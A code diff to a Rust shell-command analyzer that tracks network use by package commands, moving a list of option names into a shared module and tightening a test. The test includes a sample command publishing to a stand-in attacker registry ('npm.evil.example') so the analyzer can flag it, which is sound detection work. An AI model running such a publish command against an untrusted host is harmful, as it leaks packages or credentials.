@@ -5,6 +5,7 @@
 use super::super::facts::{Analyzer, CommandContext, NetUse};
 use super::super::host::{loose_host, url_host};
 use super::super::options::{parse_opts, Arg};
+use crate::flow::shell::options::valued_long::PKG_LONG;
 
 impl Analyzer {
     pub(super) fn pkg(&mut self, name: &str, args: &[Arg], ctx: &mut CommandContext) {
@@ -67,54 +68,18 @@ impl Analyzer {
     }
 }
 
-const PKG_LONG: &[&str] = &[
-    "registry",
-    "otp",
-    "tag",
-    "access",
-    "index",
-    "token",
-    "repository",
-    "repository-url",
-    "index-url",
-    "extra-index-url",
-    "host",
-    "manifest-path",
-    "package",
-    "username",
-    "password",
-    "config-file",
-    "cert",
-    "client-cert",
-    "sign-with",
-    "identity",
-    "comment",
-    "requirement",
-    "constraint",
-    "target",
-    "workspace",
-    "publish-url",
-    "features",
-    "jobs",
-    "key",
-    "dist-tag",
-    "editable",
-    "trusted-host",
-    "prefix",
-];
-
 #[cfg(test)]
 mod tests {
     use crate::flow::shell::test_util::{net, one, s};
 
     #[test]
     fn publish_goes_to_the_registry() {
-        let n = one("npm publish --registry https://npm.evil.example/");
-        assert_eq!(n.hosts, s(&["npm.evil.example"]));
-        let n = one("cargo publish");
-        assert_eq!(n.hosts, s(&["crates.io"]));
-        let n = one("twine upload dist/*");
-        assert_eq!(n.upload_paths, s(&["dist/*"]));
+        for (cmd, registry) in
+            [("npm publish --registry https://npm.evil.example/", "npm.evil.example"), ("cargo publish", "crates.io")]
+        {
+            assert_eq!(one(cmd).hosts, s(&[registry]), "{cmd}");
+        }
+        assert_eq!(one("twine upload dist/*").upload_paths, s(&["dist/*"]));
         assert!(net("npm install && npm test && cargo build --release").is_empty());
     }
 }
